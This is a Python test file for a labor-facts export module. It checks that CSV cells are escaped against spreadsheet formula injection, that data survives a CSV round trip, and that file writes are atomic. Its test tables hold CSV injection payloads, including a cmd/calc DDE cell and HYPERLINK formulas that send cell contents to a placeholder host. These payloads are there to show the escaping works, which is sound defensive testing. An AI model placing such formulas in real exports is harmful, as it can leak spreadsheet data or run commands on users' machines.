"""CSV safety and round trips; atomic writes that leave nothing half-written."""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from laborfacts.export import (
    CSV_FIELDS,
    OutDirWriter,
    atomic_writer,
    csv_safe,
    csv_text,
    csv_unsafe,
    read_csv,
)
from laborfacts.models import Document, Fact
from laborfacts.tabular import ROW_COLUMNS

SAFETY = [
    # (cell, expected)
    ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("'=1", "''=1"),  # an existing quote is escaped too, so the change can be undone
    ("-240000", "-240000"),
    ("-240,000", "-240,000"),
    ("-1.5", "-1.5"),
    ("-2e3", "-2e3"),
    ("-", "'-"),
    ("--5", "'--5"),
    ("'90s workers", "'90s workers"),
    ("Amazon", "Amazon"),
    ("", ""),
    (-240000, -240000),
    (23.5, 23.5),
    (None, None),
]


@pytest.mark.parametrize(("cell", "expected"), SAFETY, ids=[repr(c) for c, _ in SAFETY])
def test_csv_safe(cell: object, expected: object) -> None:
    assert csv_safe(cell) == expected
    if isinstance(cell, str):
        assert csv_unsafe(csv_safe(cell)) == cell


def _fact(**kw: object) -> Fact:
    base: dict[str, object] = {
        "doc": "d", "type": "wage", "value": 23.0, "unit": "USD", "text": "$23",
        "start": 0, "end": 3, "sentence": "Pay is $23.",
    }  # fmt: skip
    base.update(kw)
    return Fact(**base)  # type: ignore[arg-type]


def test_formula_subjects_and_texts_are_neutralised_but_numbers_stay_numeric() -> None:
    evil = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
    facts = [
        _fact(subject=evil, value=-240000.0, direction="decrease", type="workforce", unit="count"),
        _fact(text="@SUM", start=0, end=4, sentence="+cmd"),
    ]
    text = csv_text(facts)
    rows = list(csv.reader(io.StringIO(text)))
    header, first, second = rows
    row = dict(zip(header, first, strict=True))
    assert row["subject"] == "'" + evil
    assert row["value"] == "-240000.0"  # a float column: one type per column
    assert dict(zip(header, second, strict=True))["text"] == "'@SUM"
    # bare, so a spreadsheet sees a number
    assert "\n-240000.0," not in text and ",-240000.0," in text
    for cells in rows[1:]:
        for cell in cells:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


CELL = st.text(
    alphabet=st.characters(blacklist_categories=["Cs"]) | st.sampled_from("=+-@\t\r\n\"',;"),
    max_size=30,
)
NUMBER = st.floats(allow_nan=False, allow_infinity=False, width=64) | st.integers(-(10**12), 10**12)


@st.composite
def facts(draw: st.DrawFn) -> Fact:
    text = draw(CELL.filter(bool))
    start = draw(st.integers(0, 10_000))
    kind = draw(st.sampled_from(["point", "range", "date"]))
    kw: dict[str, object] = {}
    if kind == "date":
        day = draw(st.sampled_from(["2023", "2023-04", None]))
        kw = {"type": "date", "unit": "date", "value": day}
    elif kind == "point":
        kw = {"type": "count", "unit": "count", "value": float(draw(NUMBER))}
    else:
        low, high = sorted([float(draw(NUMBER)), float(draw(NUMBER))])
        kw = {"type": "money", "unit": "USD", "value": None, "low": low, "high": high,
              "qualifier": "range"}  # fmt: skip
    return Fact(
        doc=draw(CELL.filter(bool)),
        text=text,
        start=start,
        end=start + len(text),
        subject=draw(CELL.filter(bool) | st.none()),
        attribution=draw(CELL.filter(bool) | st.none()),
        item=draw(st.sampled_from(["worker", "=cmd", None])),
        sentence=draw(CELL),
        confidence=draw(st.floats(0, 1)),
        **kw,  # type: ignore[arg-type]
    )


@settings(max_examples=200, deadline=None)
@given(st.lists(facts(), max_size=5))
def test_csv_round_trip(records: list[Fact]) -> None:
    text = csv_text(records)
    back = list(read_csv(io.StringIO(text, newline="")))
    assert [f.record() for f in back] == [f.record() for f in records]
    reader = csv.DictReader(io.StringIO(text, newline=""))
    # the typed row's columns: the record's fields, ``date``, and one ``path`` column, last
    assert tuple(reader.fieldnames or ()) == CSV_FIELDS == tuple(ROW_COLUMNS)
    assert CSV_FIELDS.count("path") == 1 and CSV_FIELDS[-1] == "path"
    assert sum(1 for _ in reader) == len(records)


# --- atomic writes --------------------------------------------------------------


def test_atomic_writer_keeps_the_old_file_when_interrupted(tmp_path: Path) -> None:
    target = tmp_path / "out.jsonl"
    target.write_text("old\n")
    with pytest.raises(KeyboardInterrupt), atomic_writer(target) as fh:
        fh.write("half of the new")
        raise KeyboardInterrupt
    assert target.read_text() == "old\n"
    assert os.listdir(tmp_path) == ["out.jsonl"]


def test_atomic_writer_gives_the_mode_of_a_plain_open(tmp_path: Path) -> None:
    with atomic_writer(tmp_path / "new.csv") as fh:
        fh.write("x")
    mask = os.umask(0)
    os.umask(mask)
    assert stat.S_IMODE((tmp_path / "new.csv").stat().st_mode) == 0o666 & ~mask
    (tmp_path / "new.csv").chmod(0o640)
    with atomic_writer(tmp_path / "new.csv") as fh:
        fh.write("y")
    assert stat.S_IMODE((tmp_path / "new.csv").stat().st_mode) == 0o640


def test_out_dir_writer_streams_csv_and_keeps_duplicate_ids(tmp_path: Path) -> None:
    from contextlib import ExitStack

    doc = Document(id="a", sha256="0", chars=3, words=1, facts=[_fact()])
    out = tmp_path / "out"
    with ExitStack() as stack:
        writer = OutDirWriter(out, stack)
        writer.write(doc)
        writer.write(doc)
        # Until the run ends, facts.csv exists only as a temporary file.
        assert not (out / "facts.csv").exists()
        writer.close()
    assert sorted(os.listdir(out)) == ["a-2.json", "a.json", "facts.csv"]
    with open(out / "facts.csv", newline="", encoding="utf-8") as fh:
        assert len(list(read_csv(fh))) == 2
